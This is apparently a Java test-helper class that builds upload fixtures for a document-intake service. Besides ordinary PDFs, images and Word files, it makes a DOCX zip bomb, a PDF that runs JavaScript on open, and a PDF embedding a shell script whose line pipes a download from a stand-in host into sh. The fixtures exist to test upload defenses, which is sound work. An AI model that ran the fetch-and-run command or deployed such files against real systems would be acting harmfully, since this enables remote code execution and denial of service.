package vn.motcua.support;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Real files of every kind uploads meet, built in memory so tests need no binary fixtures. */
public final class TestFiles {

    private TestFiles() {
    }

    /** A one-page PDF carrying the text (ASCII: the standard fonts have no Vietnamese glyphs). */
    public static byte[] pdf(String text) {
        try (PDDocument document = pdfDocument(text)) {
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF that opens only with a password. */
    public static byte[] encryptedPdf(String text) {
        try (PDDocument document = pdfDocument(text)) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret",
                    new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The first half of a valid PDF, as an interrupted download leaves it. */
    public static byte[] truncatedPdf() {
        byte[] pdf = pdf("This document was cut in the middle of its page content and cross-reference table");
        return Arrays.copyOf(pdf, pdf.length / 2);
    }

    /** A PDF of at least {@code size} bytes: a valid document followed by padding in a PDF comment. */
    public static byte[] pdfOfSize(int size) {
        byte[] pdf = pdf("Large scan");
        byte[] large = Arrays.copyOf(pdf, Math.max(size, pdf.length));
        large[pdf.length] = '%';
        Arrays.fill(large, pdf.length + 1, large.length, (byte) 'x');
        return large;
    }

    public static byte[] png() {
        return image("png");
    }

    public static byte[] jpeg() {
        return image("jpeg");
    }

    /** A Word document with one paragraph. */
    public static byte[] docx(String text) {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText(text);
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A Word document that opens only with a password (Office's agile encryption). */
    public static byte[] encryptedDocx(String text) {
        try (POIFSFileSystem container = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("user-secret");
            try (OutputStream encrypted = encryptor.getDataStream(container)) {
                encrypted.write(docx(text));
            }
            container.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException | GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * A small DOCX whose {@code word/document.xml} inflates to about {@code inflatedBytes}: one run
     * of the same letter, which deflate shrinks about a thousandfold (a "zip bomb").
     */
    public static byte[] docxBomb(long inflatedBytes) {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx("x")));
                ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.setLevel(Deflater.BEST_COMPRESSION);
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                if (entry.getName().equals("word/document.xml")) {
                    out.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w="
                            + "\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>")
                            .getBytes(StandardCharsets.US_ASCII));
                    byte[] letters = new byte[1024 * 1024];
                    Arrays.fill(letters, (byte) 'a');
                    for (long written = 0; written < inflatedBytes; written += letters.length) {
                        out.write(letters);
                    }
                    out.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.US_ASCII));
                } else {
                    in.transferTo(out);
                }
                out.closeEntry();
            }
            out.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A valid one-page PDF that runs JavaScript when opened. */
    public static byte[] pdfWithJavaScript() {
        try (PDDocument document = pdfDocument("Giay de nghi")) {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello');"));
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A valid one-page PDF carrying another file (a shell script) in its embedded files. */
    public static byte[] pdfWithEmbeddedFile() {
        try (PDDocument document = pdfDocument("Giay de nghi")) {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("run.sh");
            spec.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(shellScript())));
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(java.util.Map.of("run.sh", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The start of a Linux program (ELF, x86-64). */
    public static byte[] elf() {
        byte[] elf = new byte[256];
        byte[] header = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(header, 0, elf, 0, header.length);
        elf[16] = 2; // ET_EXEC
        elf[18] = 0x3e; // x86-64
        return elf;
    }

    /** The start of a Windows program: DOS stub pointing to a PE header. */
    public static byte[] windowsExecutable() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        byte[] pe = {'P', 'E', 0, 0, 0x4c, 0x01};
        System.arraycopy(pe, 0, exe, 0x80, pe.length);
        return exe;
    }

    public static byte[] shellScript() {
        return "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    private static PDDocument pdfDocument(String text) throws IOException {
        PDDocument document = new PDDocument();
        PDPage page = new PDPage();
        document.addPage(page);
        try (PDPageContentStream content = new PDPageContentStream(document, page)) {
            content.beginText();
            content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
            content.newLineAtOffset(72, 720);
            content.showText(text);
            content.endText();
        }
        return document;
    }

    private static byte[] save(PDDocument document) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(120, 80, BufferedImage.TYPE_INT_RGB);
        Graphics2D graphics = image.createGraphics();
        graphics.setColor(Color.WHITE);
        graphics.fillRect(0, 0, 120, 80);
        graphics.setColor(Color.BLUE);
        graphics.drawString("CCCD", 20, 40);
        graphics.dispose();
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            ImageIO.write(image, format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
